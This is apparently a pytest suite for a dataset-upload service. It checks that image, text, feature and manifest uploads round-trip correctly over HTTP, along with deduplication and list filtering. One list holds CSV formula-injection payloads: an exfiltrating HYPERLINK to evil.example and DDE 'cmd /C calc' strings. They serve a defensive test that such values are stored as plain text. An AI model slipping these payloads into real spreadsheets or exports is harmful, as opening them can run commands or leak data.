"""Every upload format round-trips over real HTTP: upload → GET stats are right → the stored dataset's
loader yields the right samples and labels (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
import uuid

import numpy as np

from app.datasets.stored import StoredDataset
from app.db.tables import Dataset
from tests.kits.datasets import (
    class_folder_files,
    color_for,
    image_bytes,
    jsonl_bytes,
    npz_bytes,
    parquet_bytes,
    tar_bytes,
    upload,
    zip_bytes,
)


def stored(server, dataset_id: str) -> StoredDataset:
    with server.runtime.sessions() as session:
        key = session.get(Dataset, uuid.UUID(dataset_id)).artifact_key
    return StoredDataset(server.runtime.store, key)


def test_class_folder_zip_with_every_image_kind(server, client):
    files = {
        "data/cat/000.png": image_bytes(color_for(0, 0)),
        "data/cat/001.jpg": image_bytes(color_for(0, 1), fmt="JPEG"),
        "data/cat/002.png": image_bytes(color_for(0, 2), mode="L"),
        "data/dog/000.png": image_bytes(color_for(1, 0), mode="RGBA"),
        "data/dog/001.webp": image_bytes(color_for(1, 1), fmt="WEBP"),
        "data/dog/002.bmp": image_bytes(color_for(1, 2), fmt="BMP"),
        "data/README.md": b"not an image",
        "__MACOSX/data/._000.png": b"resource fork",
    }
    r = upload(client, zip_bytes(files), "pets.zip", name="pets")
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["name"] == "pets" and body["modality"] == "image" and body["task_type"] == "classification"
    assert body["format"] == "zip/class-folders" and body["num_samples"] == 6 and body["num_classes"] == 2
    stats = body["stats"]
    assert stats["classes"] == [{"name": "cat", "count": 3}, {"name": "dog", "count": 3}]
    assert stats["images"]["source_formats"] == {"BMP": 1, "JPEG": 1, "PNG": 3, "WEBP": 1}
    assert stats["images"]["reencoded"] == 4  # grayscale, RGBA, WebP, BMP; RGB PNG and JPEG are kept
    assert stats["images"]["width"]["min"] == stats["images"]["width"]["max"] == 8
    assert stats["ignored_files"]["count"] == 2 and stats["skipped_files"]["count"] == 0
    assert stats["digest"] == body["digest"] and len(body["digest"]) == 64
    assert body["split"]["seed"] == 0 and body["split"]["val_fraction"] == 0.2
    assert body["split"]["train"] + body["split"]["val"] == 6
    assert client.get(f"/v1/datasets/{body['id']}").json() == body

    ds = stored(server, body["id"])
    assert ds.manifest.classes == ["cat", "dog"]
    seen = []
    for split in ("train", "val"):
        for img, label in ds.torch_dataset(split):
            assert img.mode == "RGB" and img.size == (8, 6)
            pixels = np.asarray(img, dtype=np.int64)
            assert int(label) == int(pixels.mean() > 128)  # dark = cat, bright = dog
            seen.append(int(label))
    assert sorted(seen) == [0, 0, 0, 1, 1, 1]
    # the kept RGB PNG is stored byte for byte
    originals = {files["data/cat/000.png"]}
    assert any(ds.sample_bytes(i) in originals for i in range(len(ds)))


def test_same_content_in_any_container_order_or_timestamp_is_one_dataset(client):
    files = class_folder_files(per_class=3)
    first = upload(client, zip_bytes(files), "a.zip")
    assert first.status_code == 201, first.text
    reordered = list(reversed(list(files.items())))
    for data, name in [
        (zip_bytes(reordered, date_time=(2001, 2, 3, 4, 5, 6)), "b.zip"),
        (tar_bytes(files, mtime=1_700_000_000), "c.tar"),
        (tar_bytes(reordered, gz=True), "d.tar.gz"),
        (zip_bytes({k.replace("data/", "renamed-root/"): v for k, v in files.items()}), "e.zip"),
    ]:
        again = upload(client, data, name, name="another name")
        assert again.status_code == 200, again.text
        assert again.json()["id"] == first.json()["id"] and again.json()["name"] == first.json()["name"]
    assert client.get("/v1/datasets").json()["total"] == 1
    # other labels for the same images are other content
    relabelled = {k.replace("/cat/", "/kitten/"): v for k, v in files.items()}
    assert upload(client, zip_bytes(relabelled), "f.zip").status_code == 201


def _manifest(rows: list[list]) -> bytes:
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    return buf.getvalue().encode()


def test_manifest_with_numeric_label_is_regression(server, client):
    files = {f"imgs/{i}.png": image_bytes((10 * i, 0, 0)) for i in range(10)}
    files["imgs/manifest.csv"] = _manifest([["path", "label"]] + [[f"./{i}.png", 1.5 * i] for i in range(10)])
    files["imgs/extra.png"] = image_bytes((255, 255, 255))  # not listed: not stored
    r = upload(client, tar_bytes(files, gz=True), "reg.tar.gz")
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["task_type"] == "regression" and body["format"] == "tar.gz/manifest" and body["num_classes"] is None
    (target,) = body["stats"]["targets"]
    assert target["name"] == "label" and target["min"] == 0 and target["max"] == 13.5
    assert abs(target["mean"] - 6.75) < 1e-6
    assert body["stats"]["images"]["unlisted_images"] == 1 and body["split"]["stratify"].startswith("target quantiles")
    ds = stored(server, body["id"])
    assert ds.labels.dtype == np.float32 and ds.labels.shape == (10, 1)
    for img, label in ds.torch_dataset("all"):
        i = int(np.asarray(img)[0, 0, 0]) // 10
        assert label[0] == 1.5 * i


def test_manifest_with_several_columns_is_multi_target_or_multilabel(server, client):
    files = {f"{i}.png": image_bytes((10 * i, 0, 0)) for i in range(8)}
    multi = dict(files, **{"manifest.csv": _manifest(
        [["path", "y1", "y2"]] + [[f"{i}.png", i, -i] for i in range(8)])})
    r = upload(client, zip_bytes(multi), "mt.zip")
    assert r.status_code == 201, r.text
    assert r.json()["task_type"] == "regression" and [t["name"] for t in r.json()["stats"]["targets"]] == ["y1", "y2"]
    ds = stored(server, r.json()["id"])
    for img, label in ds.torch_dataset("all"):
        i = int(np.asarray(img)[0, 0, 0]) // 10
        assert list(label) == [i, -i]

    tags = dict(files, **{"labels.csv": _manifest(
        [["path", "tags"]] + [[f"{i}.png", "a|b" if i % 2 else "c"] for i in range(8)])})
    r = upload(client, zip_bytes(tags), "ml.zip", task_type="multilabel")
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["task_type"] == "multilabel" and body["num_classes"] == 3
    assert body["stats"]["classes"] == [{"name": "a", "count": 4}, {"name": "b", "count": 4}, {"name": "c", "count": 4}]
    ds = stored(server, body["id"])
    for img, label in ds.torch_dataset("all"):
        i = int(np.asarray(img)[0, 0, 0]) // 10
        assert list(label) == ([1, 1, 0] if i % 2 else [0, 0, 1])


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'a "quoted", multi-line\ntext, naïve café 日本',
    "plain text",
]


def test_csv_text_stores_formula_payloads_as_plain_text(server, client):
    rows = [["text", "label"]] + [[t, "=evil()" if k % 2 else "ok"] for k, t in enumerate(INJECTIONS)]
    r = upload(client, _manifest(rows), "texts.csv")
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["modality"] == "text" and body["task_type"] == "classification" and body["format"] == "csv"
    assert body["stats"]["classes"] == [{"name": "=evil()", "count": 3}, {"name": "ok", "count": 3}]
    assert body["stats"]["text"]["chars"]["max"] == max(len(t) for t in INJECTIONS)
    ds = stored(server, body["id"])
    got = {text: ds.manifest.classes[int(label)] for text, label in ds.torch_dataset("all")}
    assert got == {t: "=evil()" if k % 2 else "ok" for k, t in enumerate(INJECTIONS)}


def test_jsonl_text_regression_and_multilabel(server, client):
    rows = [{"text": f"sample {i}", "score": i / 4, "id": i} for i in range(12)]
    r = upload(client, jsonl_bytes(rows), "scores.jsonl", label_column="score")
    assert r.status_code == 201, r.text
    assert r.json()["task_type"] == "regression" and r.json()["format"] == "jsonl"
    ds = stored(server, r.json()["id"])
    assert sorted((t, float(y[0])) for t, y in ds.torch_dataset("all")) == sorted(
        (f"sample {i}", i / 4) for i in range(12))

    tagged = [{"text": f"doc {i}", "labels": ["x", "y"] if i % 3 else ["z"]} for i in range(9)]
    r = upload(client, jsonl_bytes(tagged), "tags.jsonl")
    assert r.status_code == 201, r.text
    assert r.json()["task_type"] == "multilabel" and r.json()["stats"]["target_names"] == ["x", "y", "z"]


def test_npz_and_parquet_features(server, client):
    rng = np.random.default_rng(0)
    feats = rng.normal(size=(20, 5)).astype(np.float32)
    labels = np.repeat(np.arange(4), 5)
    r = upload(client, npz_bytes(features=feats, labels=labels), "emb.npz")
    assert r.status_code == 201, r.text
    body = r.json()
    assert body["modality"] == "features" and body["task_type"] == "classification" and body["num_classes"] == 4
    assert body["stats"]["features"] == {"dim": 5, "label_key": "labels"}
    ds = stored(server, body["id"])
    assert ds.features().shape == (20, 5)
    by_row = {feats[i].tobytes(): labels[i] for i in range(20)}
    for x, y in ds.torch_dataset("all"):
        assert ds.manifest.classes[int(y)] == str(by_row[x.tobytes()])

    targets = rng.normal(size=(15, 2))
    table = {"features": [list(map(float, row)) for row in feats[:15]], "targets": [list(t) for t in targets]}
    r = upload(client, parquet_bytes(table), "emb.parquet")
    assert r.status_code == 201, r.text
    assert r.json()["task_type"] == "regression" and len(r.json()["stats"]["targets"]) == 2
    ds = stored(server, r.json()["id"])
    by_row = {feats[i].tobytes(): targets[i].astype(np.float32) for i in range(15)}
    for x, y in ds.torch_dataset("all"):
        np.testing.assert_array_equal(y, by_row[x.tobytes()])


def test_list_filters_and_pages(client):
    assert upload(client, zip_bytes(class_folder_files()), "imgs.zip", name="Vision set").status_code == 201
    assert upload(client, jsonl_bytes([{"text": f"t{i}", "label": "ab"[i % 2]} for i in range(6)]), "t.jsonl",
                  name="text set").status_code == 201
    feats = np.eye(6, dtype=np.float32)
    assert upload(client, npz_bytes(features=feats, targets=np.arange(6.0)), "f.npz",
                  name="feature set").status_code == 201
    everything = client.get("/v1/datasets").json()
    assert everything["total"] == 3 and [d["name"] for d in everything["items"]] == ["feature set", "text set",
                                                                                      "Vision set"]
    assert [d["name"] for d in client.get("/v1/datasets", params={"modality": "text"}).json()["items"]] == ["text set"]
    assert client.get("/v1/datasets", params={"task_type": "regression"}).json()["total"] == 1
    assert client.get("/v1/datasets", params={"name": "VISION"}).json()["total"] == 1
    assert client.get("/v1/datasets", params={"name": "%"}).json()["total"] == 0
    page = client.get("/v1/datasets", params={"limit": 2}).json()
    assert len(page["items"]) == 2 and page["total"] == 3 and page["next_cursor"]
    rest = client.get("/v1/datasets", params={"limit": 2, "cursor": page["next_cursor"]}).json()
    assert [d["name"] for d in rest["items"]] == ["Vision set"] and rest["next_cursor"] is None
    assert client.get("/v1/datasets", params={"cursor": "garbage"}).status_code == 422
    assert client.get("/v1/datasets", params={"modality": "audio"}).status_code == 422
    assert client.get(f"/v1/datasets/{uuid.uuid4()}").status_code == 404
